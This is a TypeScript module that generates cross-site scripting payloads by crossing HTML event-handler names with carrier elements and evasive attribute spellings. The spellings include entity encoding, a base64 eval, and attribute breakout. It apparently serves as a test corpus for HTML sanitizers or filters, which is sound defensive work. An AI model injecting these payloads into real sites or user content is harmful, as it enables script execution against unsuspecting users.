import { inTurn, type Payload } from './payload';

const EVENTS: readonly string[] = [
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut',
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change',
  'click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag drop durationchange end',
  'ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid',
  'keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mousemove mouseover',
  'mouseup mousewheel offline online pagehide pageshow paste play playing pointerdown pointermove pointerover',
  'pointerrawupdate popstate progress readystatechange repeat reset resize scroll scrollend search securitypolicyviolation',
  'seeked select selectionchange selectstart slotchange start storage submit suspend timeupdate toggle touchstart',
  'transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationstart wheel',
].flatMap((line) => line.split(' '));

/** `{on}` stands for the attribute. */
const CARRIERS: readonly string[] = [
  '<p {on} tabindex=1 autofocus>word</p>',
  '<a href="https://ok.example/" {on}>word</a>',
  '<img src=x {on} alt="picture">',
  '<details open {on}><summary {on}>word</summary>more</details>',
  '<table {on}><tr {on}><td {on}>cell</table>',
  '<svg {on} width=40 height=40><rect {on} width=9 height=9 /><animate {on} attributeName=x dur=1s /></svg>',
  '<math {on}><mi {on}>x</mi></math>',
  '<video {on} autoplay src="data:video/mp4,x"><source {on}></video>',
  '<input {on} autofocus><select {on} autofocus><option {on}>x</select><textarea {on} autofocus></textarea>',
  '<section {on} style="animation:x 1s;transition:all 1s;width:9px;overflow:auto">word</section>',
  '<marquee {on} loop=1>word</marquee>',
  '<body {on}><p>word</p>',
  '<iframe {on} src="about:blank"></iframe><object {on} data="data:,x"></object>',
  '<blockquote {on}><cite {on}>word</cite></blockquote><pre {on}><code {on} class=language-x>word</code></pre>',
];

/** How an event attribute can be written. */
const SPELLINGS: readonly string[] = [
  'on{event}={run}',
  'on{event}="{run}"',
  "on{event}='{run}'",
  'ON{event}={run}',
  'on{event}\n=\n"{run}"',
  'x="y"on{event}="{run}"',
  '/on{event}=/{run}/',
  'on{event}=`{run}`',
  'on{event}=&#112;wned&lpar;0&rpar;;{run}',
  'on{event}="eval(atob`cHduZWQoMCk=`);{run}"',
  'title="><b on{event}={run}" on{event}="top.{run}"',
];

/** Every event, with all elements and all spellings in turn. */
export const EVENT_ATTRIBUTES: readonly Payload[] = inTurn(EVENTS, CARRIERS).map(
  ([event, carrier], index) => {
    const spelling = SPELLINGS[index % SPELLINGS.length] ?? '';
    return carrier.replaceAll('{on}', spelling.replaceAll('{event}', event));
  },
);
